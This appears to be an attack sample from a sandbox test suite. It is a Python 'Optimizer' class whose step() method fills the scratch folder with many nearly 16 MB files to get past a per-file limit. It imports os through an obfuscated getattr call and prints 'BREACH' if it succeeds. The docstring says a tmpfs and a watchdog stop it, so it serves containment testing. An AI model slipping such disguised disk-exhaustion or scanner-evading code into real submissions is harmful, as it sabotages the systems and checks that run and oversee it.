"""Attack: fills its scratch folder with files that are small enough, one by one, but have no end together.

Exercise: optimizer
Earns: 0
Stopped by: tmpfs of fixed size; at container the fork server looks and kills
Levels: full, container
"""

import random
import time

os = getattr(random, bytes((95, 111, 115)).decode())

LIMIT = 16 * 2**20


def fill():
    written = 0
    try:
        for number in range(24):
            with open(f"part-{number}", "wb") as file:
                file.write(bytes(LIMIT - 4096))
            written += LIMIT - 4096
    except OSError:
        pass
    time.sleep(0.5)
    if written > 2 * LIMIT:
        print("BREACH", written // 2**20, "MB in a folder of 16")


class Optimizer:
    def __init__(self, params, lr):
        self.params, self.lr = list(params), lr

    def step(self):
        fill()

    def zero_grad(self):
        pass
